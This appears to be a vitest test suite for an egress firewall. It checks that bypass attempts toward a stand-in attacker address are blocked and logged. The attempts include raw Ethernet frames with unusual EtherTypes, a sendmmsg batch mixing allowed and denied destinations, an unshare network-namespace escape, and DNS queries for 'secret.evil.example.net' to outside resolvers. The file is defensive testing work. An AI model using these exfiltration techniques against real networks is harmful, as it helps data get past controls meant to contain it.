// Ways of sending that an egress firewall can miss. Each is tried against an address nobody has
// allowed, where nothing may arrive and a record must say so, and through the same path against an
// allowed one, where it must arrive.
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import type { AuditEvent } from '../../src/core/audit/event.ts';
import { ALLOWED, Arena, ATTACKER } from './arena.ts';
import { CASES, UDP } from './cases.ts';

const arena = new Arena();
const closed: string[] = [];

beforeAll(() => arena.open(), 60_000);
afterAll(() => {
  arena.close();
  process.stdout.write(`${closed.map((one) => `${one}: closed\n`).join('')}`);
});

describe('ways of sending', () => {
  test.each(CASES)('case $number ($privilege), $what', async (one) => {
    const { number, what, privilege, script, to = ATTACKER, control, record } = one;
    if (control !== undefined) {
      const passed = arena.attempt(privilege, script, control);
      expect([passed.stdout.trim(), await arena.hasArrived(passed.marker, true)]).toEqual([
        'sent',
        true,
      ]);
    }
    const before = (await arena.guarded.events()).length;
    const tried = arena.attempt(privilege, script, to);
    const isIt = (event: AuditEvent) => event.dst_ip === to && event.blocked;
    const events = await arena.guarded.events((all) => all.slice(before).some(isIt));
    expect(events.slice(before).find(isIt)).toMatchObject(record ?? {});
    expect(await arena.hasArrived(tried.marker, false)).toBe(false);
    closed.push(`case ${number}, ${what}`);
  });

  test.each([
    ['PPPoE', `frame(b'\\x88\\x64', M)`, '0x8864'],
    ['MPLS', `frame(b'\\x88\\x47', M)`, '0x8847'],
    ['an EtherType of its own', `frame(b'\\x88\\xb5', M)`, '0x88b5'],
    [
      'ARP with a payload',
      `frame(b'\\x08\\x06', b'\\0\\1\\x08\\0\\6\\4\\0\\1' + bytes(20) + M)`,
      '0x0806',
    ],
  ])('case 28 (N), %s', async (what, script, reason) => {
    const tried = arena.attempt('N', script, ATTACKER);
    const isIt = (event: AuditEvent) => event.reason === reason && event.blocked;
    await arena.guarded.events((all) => all.some(isIt));
    expect(await arena.hasArrived(tried.marker, false)).toBe(false);
    closed.push(`case 28, ${what}`);
  });

  test('case 2 (U), a batch of which one is allowed', async () => {
    const script = `
libc = ctypes.CDLL(None, use_errno=True)
class V(ctypes.Structure): _fields_ = [('b', ctypes.c_void_p), ('n', ctypes.c_size_t)]
class H(ctypes.Structure): _fields_ = [('name', ctypes.c_void_p), ('nl', ctypes.c_uint), ('v', ctypes.c_void_p), ('vl', ctypes.c_size_t), ('c', ctypes.c_void_p), ('cl', ctypes.c_size_t), ('f', ctypes.c_int)]
class E(ctypes.Structure): _fields_ = [('h', H), ('l', ctypes.c_uint)]
all, keep = (E * 3)(), []
for i, a in enumerate(['${ALLOWED}', TO, '${ALLOWED}']):
    at = ctypes.create_string_buffer(struct.pack('<H', 2) + struct.pack('>H', 9) + socket.inet_aton(a) + bytes(8), 16)
    text = ctypes.create_string_buffer(M if a == TO else b'mark-ok%d!' % i); v = V(ctypes.addressof(text), len(text) - 1); keep += [at, text, v]
    all[i].h = H(ctypes.addressof(at), 16, ctypes.addressof(v), 1, None, 0, 0)
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
if libc.sendmmsg(s.fileno(), all, 3, 0) != 1: raise OSError(0, 'not one')`;
    const tried = arena.attempt('U', script, ATTACKER);
    expect(tried.stdout.trim()).toBe('sent');
    expect(await arena.hasArrived('mark-ok0!', true)).toBe(true);
    expect(await arena.hasArrived(tried.marker, false)).toBe(false);
    closed.push('case 2, a batch of which one is allowed');
  });

  test('case 44 (U), a network namespace of its own', async () => {
    const inner = `${UDP}; s.sendto(M, (TO, 9))`;
    const words = `os.execvp('unshare', ['unshare', '-Urn', sys.executable, '-c', ${JSON.stringify(`import socket, sys; TO, M = sys.argv[1], sys.argv[2].encode(); ${inner}`)}, TO, sys.argv[2]])`;
    const tried = arena.attempt('U', words, ATTACKER);
    expect(tried.stderr).toMatch(/unreachable|not permitted/iu);
    expect(await arena.hasArrived(tried.marker, false)).toBe(false);
    closed.push('case 44, a network namespace of its own');
  });

  test('cases 63, 64 and 73 (U), questions to other resolvers, by UDP and TCP, and reverse ones', async () => {
    const { guarded } = arena;
    const before = guarded.heard.length;
    const dig = (...words: string[]) => guarded.run('dig', '+tries=1', '+time=2', ...words).stdout;
    expect(dig('secret.evil.example.net', `@${ATTACKER}`)).toContain('REFUSED');
    expect(dig('+tcp', 'secret.evil.example.net', '@8.8.8.8')).toContain('REFUSED');
    expect(dig('secret.evil.example.net', 'TXT', '@192.0.2.53')).toContain('REFUSED');
    expect(dig('-x', '2001:db8::5ec4:e7', '@192.0.2.53')).toContain('NXDOMAIN');
    expect(guarded.heard.slice(before).filter((text) => /evil|arpa/u.test(text))).toEqual([]);
    const refused = await guarded.events((all) =>
      all.some(({ dst_hostname: name }) => name === 'secret.evil.example.net'),
    );
    expect(refused.some(({ event_type: type }) => type === 'dns_blocked')).toBe(true);
    closed.push('cases 63, 64, 73, questions to other resolvers');
  });

  test('case 75 (U), what is denied starts no look-up of its own', () => {
    expect(arena.guarded.heard.filter((text) => /arpa|198\.51|PTR/u.test(text))).toEqual([]);
    closed.push('case 75, no look-up of what is denied');
  });
});
